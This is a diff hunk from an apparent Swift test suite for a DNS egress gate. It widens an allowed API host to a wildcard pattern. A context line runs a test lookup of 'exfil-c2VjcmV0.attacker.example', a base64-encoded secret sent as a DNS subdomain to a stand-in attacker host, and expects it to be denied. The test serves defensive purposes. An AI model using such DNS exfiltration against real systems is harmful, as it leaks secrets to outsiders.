@@ -106,7 +106,7 @@ struct DNSGateTests {
                 to: [\(nameserver.address)]
                 ports: [53]
               - name: api
-                to: [api.allowed.example]
+                to: ["*.allowed.example"]  # a wildcard: riptides resolves no name itself
                 ports: [443]
             """)
         let denied = try Self.run(nameserver, profile: profile, ["exfil-c2VjcmV0.attacker.example", "--via", via])
